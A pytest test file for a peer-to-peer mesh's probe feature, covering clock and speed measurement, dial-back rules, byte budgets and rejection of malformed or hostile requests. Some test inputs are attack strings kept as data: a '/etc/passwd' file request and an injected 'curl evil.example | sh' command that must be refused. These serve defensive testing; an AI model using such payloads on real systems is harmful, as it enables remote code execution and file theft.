"""A probe: what a member is told, what it can cost, and that it touches no link."""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from pathlib import Path

import pytest

from p2pfl.errors.membership import Revoked
from p2pfl.errors.mesh import MalformedStream, OurKeyNotListed, RefusedThere
from p2pfl.errors.probe import ProbeUnanswered
from p2pfl.keys import Identity
from p2pfl.mesh import LinkClosed, opening
from p2pfl.mesh.probe import server as probe_server
from p2pfl.mesh.probe import wire
from p2pfl.mesh.probe.doctor_port import DoctorPort
from p2pfl.mesh.probe.handshake import Admitted, trial_handshake
from p2pfl.mesh.probe.rendezvous import CallRequest, encode_requests
from p2pfl.mesh.probe.wire import About, PeerFacts
from p2pfl.mesh.relay import YOU_ARE_CALLED, YOU_CALLED
from p2pfl.roster import Roster
from tests.mesh.doctors import PEERS_FILE, probing, site_of
from tests.mesh.sites import OVERALL_S, QUICK, Greetings, Sites, running

SITES = ("ada", "bob", "cyd")


def without_links(sites: Sites) -> Roster:
    """Nobody is dialled; every member that dials is admitted."""
    return Roster(1, tuple(replace(member, addresses=()) for member in sites.roster.members))


def test_a_member_is_told_what_runs_there_what_it_holds_and_what_its_clock_says() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        mesh = sites.mesh("ada", about=About("7.7.7", PEERS_FILE), wall=lambda: time.time() + 600)
        async with running(mesh), probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]) as (client, facts):
            assert (facts.software, facts.role) == ("7.7.7", wire.LINKS)
            clock = await client.measure_clock()
            assert abs(clock.ahead_s - 600) <= clock.round_trip_s
            assert await client.fetch_peers_file() == PEERS_FILE

    asyncio.run(scene())


@pytest.mark.claim("PROBE-1")
def test_a_probe_measures_sizes_and_speed_while_the_pairs_link_goes_on() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada"), sites.mesh("bob")) as (ada, bob):
            await ada.up("bob")
            await bob.up("ada")
            async with probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]) as (client, _):
                sent = [bytes([number]) * 200_000 for number in range(20)]
                for payload in sent:
                    await bob.mesh.send("ada", payload)
                await client.test_packet_sizes()
                to, back = await client.measure_speed()
                assert min(to, back) > 0
                assert await ada.payloads("bob", 20) == sent
            assert not [event for event in ada.seen + bob.seen if isinstance(event, LinkClosed)]

    asyncio.run(scene())


@pytest.mark.claim("PROBE-2")
def test_a_peer_dials_back_only_where_its_own_file_lists_the_one_that_asks() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        nowhere, here = sites.addresses["cyd"], sites.addresses["bob"]
        listed = Roster(
            1,
            tuple(
                replace(one, addresses=(nowhere, here)) if one.name == "bob" else one for one in sites.roster.members
            ),
        )
        async with running(sites.mesh("ada", roster=listed), sites.mesh("bob")):
            # What the caller's own file lists for it makes no difference.
            mine = site_of(sites, "bob", roster=sites.reached_at("bob", sites.addresses["ada"]))
            async with probing(mine, "ada", sites.addresses["ada"]) as (client, _):
                shut, reached = await client.ask_to_dial()
        assert (shut.address, shut.code) == (str(nowhere), "P2P-MESH-043")
        assert (reached.address, reached.code) == (str(here), "")

    asyncio.run(scene())


@pytest.mark.claim("PROBE-2")
def test_a_members_listed_address_shows_it_no_service_behind() -> None:
    """What a service says there is not told to the member.

    A name that passed every eye may lead into the network of whoever dials it, by the time that it is dialled.
    """

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"SSH-2.0-OpenSSH_9.7\r\n")
        with contextlib.suppress(OSError):
            await writer.drain()
            await reader.read()
        writer.close()

    async def scene() -> None:
        sites = Sites(*SITES)
        inner = sites.addresses["bob"]
        async with (
            await asyncio.start_server(serve, inner.host, inner.port),
            running(sites.mesh("ada")) as (ada,),
            probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]) as (client, _),
        ):
            (found,) = await client.ask_to_dial()
            assert found.code == "P2P-MESH-014"
            assert "SSH" not in repr(found)
            assert "SSH" in (await ada.refusal("P2P-MESH-014")).error.evidence  # the own operator is told

    asyncio.run(scene())


@pytest.mark.claim("PROBE-1")
def test_a_stranger_that_would_probe_is_turned_away_before_it_can_ask() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        stranger = Identity.generate()
        odd = Roster(
            1, tuple(replace(one, key=stranger.key) if one.name == "bob" else one for one in sites.roster.members)
        )
        async with running(sites.mesh("ada", about=About("1", PEERS_FILE))) as (ada,):
            with pytest.raises(OurKeyNotListed):
                await trial_handshake(
                    site_of(sites, "bob", roster=odd, identity=stranger), "ada", sites.addresses["ada"]
                )
            said = await ada.refusal("P2P-MESH-006")
            assert said.peer is None

    asyncio.run(scene())


@pytest.mark.claim("MEMBER-12")
def test_a_member_that_is_not_admitted_learns_nothing_of_this_site() -> None:
    """Neither a probe, nor a greeting, nor a word."""

    def refuse(peer: str) -> None:
        if peer == "bob":
            raise Revoked(peer=peer, evidence="its key")

    async def scene() -> None:
        sites = Sites(*SITES)
        said = Greetings("ada", shut_out={"bob": Revoked(peer="bob", evidence="its key")})
        ada = sites.mesh("ada", roster=without_links(sites), about=About("1", PEERS_FILE), greetings=said)
        async with running(ada) as (watch,), doctor_port_of(sites, "cyd", refuse):
            for name in ("ada", "cyd"):
                with pytest.raises(RefusedThere) as caught:
                    await trial_handshake(site_of(sites, "bob"), name, sites.addresses[name])
                assert caught.value.fields["their_code"] == "P2P-FED-041"
            async with running(sites.mesh("bob")) as (bob,):
                assert (await watch.refusal("P2P-FED-041")).peer == "bob"
                await bob.refusal("P2P-MESH-020")
            assert said.made == []

    asyncio.run(scene())


@contextlib.asynccontextmanager
async def doctor_port_of(sites: Sites, name: str, admit: Callable[[str], None]) -> AsyncIterator[None]:
    port = DoctorPort(site_of(sites, name), About("1", PEERS_FILE, wire.DOCTOR), admit=admit)
    port.open(sites.addresses[name])
    try:
        yield
    finally:
        await port.close()


@pytest.mark.claim("PROBE-1")
def test_a_member_that_floods_probes_is_refused_and_told_once(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It is refused when its budget is spent."""
    monkeypatch.setattr(probe_server, "BUDGET_BYTES", 3 * probe_server.PROBE_BYTES)
    monkeypatch.setattr(probe_server, "REFILL_BYTES_PER_S", 0)

    async def scene() -> None:
        sites = Sites(*SITES)
        bob = site_of(sites, "bob")
        # That a relay was looked for in vain would be told between two refusals, and make the second one news again.
        limits = replace(QUICK, relay_after_s=OVERALL_S)
        async with running(sites.mesh("ada", roster=without_links(sites), limits=limits)) as (ada,):
            for left in (2, 1, 0):
                async with probing(bob, "ada", sites.addresses["ada"]) as (_, facts):
                    assert facts.grant == left * probe_server.PROBE_BYTES
            for _ in range(3):
                with pytest.raises(RefusedThere) as caught:
                    async with probing(bob, "ada", sites.addresses["ada"]):
                        pass
                assert caught.value.fields["their_code"] == "P2P-MESH-046"
            await ada.refusal("P2P-MESH-046")
            assert len(ada.told) == 1
            # Another member's budget is its own.
            async with probing(site_of(sites, "cyd"), "ada", sites.addresses["ada"]) as (_, facts):
                assert facts.grant

    asyncio.run(scene())


@pytest.mark.claim("PROBE-1")
@pytest.mark.parametrize("way", ["to", "from"])
def test_a_probe_moves_no_more_bytes_than_it_was_granted(way: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(probe_server, "GRANT_BYTES", 100_000)

    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada", roster=without_links(sites))) as (ada,):
            admitted = await trial_handshake(site_of(sites, "bob"), "ada", sites.addresses["ada"])
            tunnel = admitted.tunnel
            await opening.send_message(tunnel, opening.PROBE)
            await opening.receive_message(tunnel, "ada", {wire.FACTS: wire.FACTS_BYTES})
            if way == "from":
                await opening.send_message(tunnel, wire.WANT, wire.encode_want(100_001, wire.FILL_BYTES))
            else:
                with contextlib.suppress(OSError):  # it may be gone before all is said
                    for _ in range(2):
                        await opening.send_message(tunnel, wire.FILL, bytes(wire.FILL_BYTES))
            with pytest.raises(RefusedThere) as caught:
                await opening.receive_message(tunnel, "ada", {})
            assert caught.value.fields["their_code"] == "P2P-MESH-046"
            tunnel.close()
            await ada.refusal("P2P-MESH-046")

    asyncio.run(scene())


def test_of_three_probes_of_one_member_the_oldest_gives_way() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        bob, at = site_of(sites, "bob"), sites.addresses["ada"]
        async with running(sites.mesh("ada", roster=without_links(sites))), contextlib.AsyncExitStack() as stack:
            first, _ = await stack.enter_async_context(_lost_in_the_end(bob, sites))
            second, _ = await stack.enter_async_context(probing(bob, "ada", at))
            third, _ = await stack.enter_async_context(probing(bob, "ada", at))
            with pytest.raises(OSError):
                while True:
                    await first.measure_clock()
            await second.measure_clock()
            await third.measure_clock()

    asyncio.run(scene())


@contextlib.asynccontextmanager
async def _lost_in_the_end(one, sites):  # type: ignore[no-untyped-def]
    with contextlib.suppress(ProbeUnanswered):
        async with probing(one, "ada", sites.addresses["ada"]) as both:
            yield both


async def refused(admitted: Admitted, *questions: tuple[int, bytes]) -> None:
    """Ask, and hear a refusal at some time."""
    await opening.send_message(admitted.tunnel, opening.PROBE)
    for kind, body in questions:
        await opening.send_message(admitted.tunnel, kind, body)
    answers_to = {wire.FACTS: wire.FACTS_BYTES, wire.DIALED: wire.DIALED_BYTES, wire.FILED: wire.FILE_BYTES}
    with pytest.raises(RefusedThere):
        while True:
            await opening.receive_message(admitted.tunnel, "ada", answers_to)
    admitted.tunnel.close()


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (wire.PING, b"short"),
        (wire.WANT, wire.encode_want(0, 1)),
        (wire.WANT, wire.encode_want(wire.PIECES + 1, 1)),
        (wire.WANT, wire.encode_want(10, wire.FILL_BYTES + 1)),
        (wire.WANT, b""),
        (wire.FACTS, b""),
        (wire.FILE, b"/etc/passwd"),
        (wire.DIAL, b"10.0.0.1:22"),
        (99, b""),
    ],
)
def test_a_malformed_question_ends_the_probe_and_names_who_asked(kind: int, body: bytes) -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada", roster=without_links(sites))) as (ada,):
            admitted = await trial_handshake(site_of(sites, "bob"), "ada", sites.addresses["ada"])
            await refused(admitted, (kind, body))
            said = await ada.refusal("P2P-MESH-019")
            assert said.peer == "bob"

    asyncio.run(scene())


@pytest.mark.parametrize("kind", [wire.DIAL, wire.FILE])
def test_what_costs_much_is_answered_once_in_a_probe(kind: int) -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada", roster=without_links(sites))) as (ada,):
            admitted = await trial_handshake(site_of(sites, "bob"), "ada", sites.addresses["ada"])
            await refused(admitted, (kind, b""), (kind, b""))
            await ada.refusal("P2P-MESH-019")

    asyncio.run(scene())


@pytest.mark.claim("PROBE-2")
def test_who_asks_to_be_dialled_again_and_again_is_dialled_until_its_budget_is_spent(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(
        probe_server,
        "BUDGET_BYTES",
        2 * (probe_server.PROBE_BYTES + probe_server.DIAL_BYTES) + probe_server.PROBE_BYTES,
    )
    monkeypatch.setattr(probe_server, "REFILL_BYTES_PER_S", 0)

    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada")):
            for _ in range(2):
                async with probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]) as (client, _):
                    assert len(await client.ask_to_dial()) == 1
            with pytest.raises(RefusedThere) as caught:
                async with probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]) as (client, _):
                    await client.ask_to_dial()
            assert caught.value.fields["their_code"] == "P2P-MESH-046"

    asyncio.run(scene())


@pytest.mark.claim("PROBE-1")
def test_a_probe_that_is_never_ended_is_ended() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        hasty = replace(QUICK, opening_s=2.0)  # that nothing comes, and no slow machine, ends it
        async with running(sites.mesh("ada", roster=without_links(sites), limits=hasty)) as (ada,):
            admitted = await trial_handshake(site_of(sites, "bob"), "ada", sites.addresses["ada"])
            await opening.send_message(admitted.tunnel, opening.PROBE)
            await opening.receive_message(admitted.tunnel, "ada", {wire.FACTS: wire.FACTS_BYTES})
            with pytest.raises(OSError):
                await opening.receive_message(admitted.tunnel, "ada", {})
            admitted.tunnel.close()
            assert ada.told == []  # an client that vanishes is nobody's concern

    asyncio.run(scene())


def test_a_trial_handshake_that_is_dismissed_leaves_no_trace() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        async with running(sites.mesh("ada", roster=without_links(sites))) as (ada,):
            admitted = await trial_handshake(site_of(sites, "bob"), "ada", sites.addresses["ada"])
            await admitted.dismiss()
            assert ada.told == []

    asyncio.run(scene())


def test_a_budget_fills_slowly_and_never_above_its_size() -> None:
    budget = probe_server.full_budget(0.0)
    assert budget.try_spend(0.0, probe_server.BUDGET_BYTES)
    assert not budget.try_spend(0.0, 1)
    assert budget.tokens(2.0) == 2 * probe_server.REFILL_BYTES_PER_S
    assert budget.tokens(1e9) == probe_server.BUDGET_BYTES


def test_the_greeter_is_not_asked_for_a_probe() -> None:
    async def scene() -> None:
        sites = Sites(*SITES)
        greetings = Greetings("ada")
        mesh = sites.mesh("ada", roster=without_links(sites), greetings=greetings)
        async with running(mesh), probing(site_of(sites, "bob"), "ada", sites.addresses["ada"]):
            assert greetings.made == []

    asyncio.run(scene())


# ── bytes ─────────────────────────────────────────────────────────────────────────────────────────────────────

SPECIFICATION = (Path(__file__).parents[2] / "docs/spec/wire.md").read_text(encoding="utf-8")


def test_the_specifications_example_of_a_probe_is_what_the_library_says() -> None:
    section = SPECIFICATION.split("### 9.1 Example")[1].split("\n## ")[0]
    lines = [line.strip() for line in section.splitlines() if line.startswith("    ")]
    shown = {line.split()[0]: bytes.fromhex(line.split()[1]) for line in lines}
    said = {
        "PROBE": framed(opening.PROBE, b""),
        "FACTS": framed(wire.FACTS, PeerFacts.of(About("0.1.0", b"version: 1\n"), 1 << 24).encode()),
        "PING": framed(wire.PING, wire.encode_ping(1_000_000)),
        "PONG": framed(wire.PONG, wire.encode_pong(1_000_000, 1_750_000_000.25)),
        "FILL": framed(wire.FILL, bytes(3)),
        "WANT": framed(wire.WANT, wire.encode_want(65_536, 1_400)),
        "DIAL": framed(wire.DIAL, b""),
        "DIALED": framed(wire.DIALED, wire.encode_dialed([wire.Dialed("10.0.0.1:7443", 12)])),
        "FILE": framed(wire.FILE, b""),
        "FILED": framed(wire.FILED, b"version: 1\n"),
        "MEET": framed(
            wire.MEET, encode_requests([CallRequest("cyd", YOU_CALLED), CallRequest("cyd", YOU_ARE_CALLED)])
        ),
        "MET": framed(wire.MET, encode_requests([CallRequest("cyd", YOU_CALLED, bytes(range(16)))])),
        "DUPLICATE": framed(opening.DUPLICATE, b""),
    }
    assert shown == said


def framed(kind: int, body: bytes) -> bytes:
    return bytes([kind]) + len(body).to_bytes(4, "big") + body


@pytest.mark.claim("CLI-4")
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{}{",
        b"[1]",
        b'[["a"]]',
        b'[["a:1", "b", "c", "d", "e", "f"]]',
        b"[" * 9999,
        json.dumps([["a:1", 1, "", "", "", "too many"]]).encode(),
        json.dumps([["a:1' ; curl evil.example | sh ; '", 1, "", "", ""]]).encode(),
        json.dumps([["a\x1b[2J:1", 1, "", "", ""]]).encode(),
    ],
)
def test_what_a_peer_says_of_its_dialling_has_one_form(body: bytes) -> None:
    with pytest.raises(MalformedStream):
        wire.decode_dialed("ada", body)


def test_a_peers_words_are_safe_to_show() -> None:
    told = wire.decode_dialed("ada", json.dumps([["10.0.0.1:1", 3, "", "red\x1b[31m", "x" * 999]]).encode())
    assert "\x1b" not in told[0].happened
    assert len(told[0].evidence) <= 300


@pytest.mark.parametrize("body", [b"", bytes(38), b"\x00\x02" + bytes(37)])
def test_facts_of_another_form_or_version_are_refused(body: bytes) -> None:
    with pytest.raises(Exception, match=r"not p2pfl's|version 2|opens links in version 0") as caught:
        PeerFacts.decode("ada", body)
    assert getattr(caught.value, "code", "") in ("P2P-MESH-019", "P2P-MESH-023")
